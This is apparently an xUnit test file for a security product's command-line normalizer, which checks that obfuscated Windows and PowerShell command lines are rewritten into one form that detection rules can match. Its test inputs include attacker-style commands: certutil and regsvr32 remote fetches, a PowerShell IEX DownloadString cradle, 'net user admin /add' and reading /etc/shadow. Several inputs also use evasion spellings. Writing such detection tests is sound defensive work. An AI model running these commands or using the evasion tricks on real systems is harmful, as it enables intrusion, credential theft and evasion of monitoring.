using System;
using System.Text;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Events;
using BehaviorBlocking.Rules;
using BehaviorBlocking.Tests.Rules;

namespace BehaviorBlocking.Tests.Events
{
    public class CommandLineNormalizerTests
    {
        [Theory]
        [InlineData("CMD.EXE /C whoami", "cmd.exe -c whoami")]
        [InlineData("c^m^d /c w^h^o^a^m^i", "cmd -c whoami")]
        [InlineData("cmd /c echo a^^b", "cmd -c echo a^b")]
        [InlineData("c\"m\"d.exe /c \"who\"ami", "cmd.exe -c whoami")]
        [InlineData("certutil.exe \u2013urlcache \u2014split \u2015f http://x/a", "certutil.exe -urlcache -split -f http://x/a")]
        [InlineData("certutil.exe \u2212decode a b", "certutil.exe -decode a b")]
        [InlineData("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "regsvr32 -s -n -u -i:http://x/a.sct scrobj.dll")]
        [InlineData("copy C:\\a\\b /y", "copy c:\\a\\b -y")]
        [InlineData("net    user\t\tadmin   /add", "net user admin -add")]
        public void Normalize_CaseCaretsQuotesDashesAndSpaces_HaveOneSpelling(string raw, string expected)
        {
            Assert.Equal(expected, CommandLineNormalizer.Normalize(raw));
        }

        [Fact]
        public void Normalize_OnLinux_KeepsLeadingSlashesAsPaths()
        {
            Assert.Equal("cat /etc/shadow /tmp", CommandLineNormalizer.Normalize("cat /etc/shadow /tmp", windows: false));
        }

        [Theory]
        [InlineData("%COMSPEC% /c whoami", "c:\\windows\\system32\\cmd.exe -c whoami")]
        [InlineData("%SystemRoot%\\System32\\rundll32.exe x", "c:\\windows\\system32\\rundll32.exe x")]
        [InlineData("%windir%\\temp\\a.exe", "c:\\windows\\temp\\a.exe")]
        [InlineData("\"%ProgramFiles(x86)%\\a.exe\"", "c:\\program files (x86)\\a.exe")]
        [InlineData("%ProgramData%\\a.exe %SystemDrive%\\b", "c:\\programdata\\a.exe c:\\b")]
        [InlineData("%TEMP%\\a.exe", "%temp%\\a.exe")]
        [InlineData("powershell -c & $env:ComSpec /c x", "powershell -command & c:\\windows\\system32\\cmd.exe -c x")]
        [InlineData("powershell $env:windirx", "powershell $env:windirx")]
        public void Normalize_WellKnownVariables_AreExpandedAndOthersKept(string raw, string expected)
        {
            Assert.Equal(expected, CommandLineNormalizer.Normalize(raw));
        }

        [Theory]
        [InlineData("powershell -nop -w h -c iex x", "powershell -noprofile -windowstyle hidden -command iex x")]
        [InlineData("powershell.exe /NoP /W 1 /NonI /ExecutionPolicy ByP -File a.ps1", "powershell.exe -noprofile -windowstyle hidden -noninteractive -executionpolicy bypass -file a.ps1")]
        [InlineData("pwsh -wi hid -ep un -f a.ps1", "pwsh -windowstyle hidden -executionpolicy unrestricted -file a.ps1")]
        [InlineData("powershell -ex bypass -noe -nol", "powershell -executionpolicy bypass -noexit -nologo")]
        [InlineData("powershell -c:x", "powershell -command:x")]
        [InlineData("powershell -windowstyle m", "powershell -windowstyle m")]
        public void Normalize_PowerShellParameters_GetTheirFullNames(string raw, string expected)
        {
            Assert.Equal(expected, CommandLineNormalizer.Normalize(raw));
        }

        [Fact]
        public void Normalize_PowerShellByAQuotedPathWithSpaces_IsToldByItsImage()
        {
            string raw = "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -nop -w h";
            Assert.Equal("c:\\program files\\powershell\\7\\pwsh.exe -noprofile -windowstyle hidden",
                CommandLineNormalizer.Normalize(raw, @"C:\Program Files\PowerShell\7\pwsh.exe"));
        }

        [Fact]
        public void Normalize_EncodedCommand_IsReplacedByItsNormalizedScript()
        {
            string script = "IEX (New-Object Net.WebClient).('Down'+'loadString')('http://x/a')";
            string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
            Assert.Equal("powershell -noprofile -encodedcommand iex (new-object net.webclient).('downloadstring')('http://x/a')",
                CommandLineNormalizer.Normalize("powershell -NoP -enc " + encoded));
            Assert.Equal("powershell -encodedcommand iex (new-object net.webclient).('downloadstring')('http://x/a')",
                CommandLineNormalizer.Normalize("powershell /E " + encoded));
        }

        [Theory]
        [InlineData("powershell -enc notbase64!")]
        [InlineData("powershell -enc QUJD")]
        [InlineData("powershell -enc AAEC")]
        public void Normalize_AnEncodedCommandThatIsNotUtf16Base64_StaysAsWritten(string raw)
        {
            string token = raw.Split(' ')[2];
            Assert.Equal("powershell -encodedcommand " + token.ToLowerInvariant(), CommandLineNormalizer.Normalize(raw));
        }

        [Fact]
        public void Normalize_PowerShellConcatenationAndBackticks_AreJoined()
        {
            Assert.Equal("powershell -command iex 'downloadstring' invoke-expression",
                CommandLineNormalizer.Normalize("powershell -c I`E`X 'Down' + 'loadString' \"Invoke-\"+\"Expression\""));
        }

        [Fact]
        public void Normalize_OtherProgramsKeepTheirShortOptions()
        {
            Assert.Equal("cmd.exe -e -c x", CommandLineNormalizer.Normalize("cmd.exe /e /c x"));
            Assert.Null(CommandLineNormalizer.Normalize(null));
            Assert.Equal(string.Empty, CommandLineNormalizer.Normalize("   "));
        }

        [Fact]
        public void Normalize_AVeryLongLine_IsCutNotRejected()
        {
            string raw = "cmd /c " + new string('A', 100_000);
            string normalized = CommandLineNormalizer.Normalize(raw)!;
            Assert.StartsWith("cmd -c aaaa", normalized, StringComparison.Ordinal);
            Assert.True(normalized.Length <= 32 * 1024);
        }

        [Fact]
        public void Rule_OnCommandLineNormalized_MatchesObfuscatedSpellingsOfOneBehavior()
        {
            using var kit = new RuleTestKit();
            kit.Write("hidden.yml", RuleTestKit.Rule("3e4c8f7a-0b5d-4f77-9a3e-7b51a3c0d001", "category: process_creation",
                "  sel:\n    CommandLineNormalized|contains|all:\n      - ' -windowstyle hidden'\n      - ' -encodedcommand '\n  condition: sel"));
            RuleSet rules = kit.Load();
            string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("whoami"));
            foreach (string commandLine in new[]
            {
                "powershell.exe -WindowStyle Hidden -EncodedCommand " + encoded,
                "powershell.exe /w 1 /e " + encoded,
                "p^owershell.exe \u2013wi h\"id\" \u2013ec " + encoded,
            })
            {
                BehaviorEvent e = kit.ProcessStart(1, 4242, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", commandLine);
                Assert.Single(RuleTestKit.Matches(rules, e));
            }

            BehaviorEvent plain = kit.ProcessStart(2, 4243, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -File C:\\scripts\\a.ps1");
            Assert.Empty(RuleTestKit.Matches(rules, plain));
        }

        [Fact]
        public void Event_NormalizedCommandLine_IsComputedOnceAndNullWithoutACommandLine()
        {
            var e = new BehaviorEvent { Kind = EventKind.ProcessStart, Platform = DetectionPlatform.Win32, CommandLine = "CMD /C X", Image = @"C:\Windows\System32\cmd.exe" };
            Assert.Equal("cmd -c x", e.NormalizedCommandLine);
            Assert.Same(e.NormalizedCommandLine, e.NormalizedCommandLine);
            Assert.Null(new BehaviorEvent().NormalizedCommandLine);
            var linux = new BehaviorEvent { Platform = DetectionPlatform.Linux, CommandLine = "cat /etc/shadow" };
            Assert.Equal("cat /etc/shadow", linux.NormalizedCommandLine);
        }
    }
}
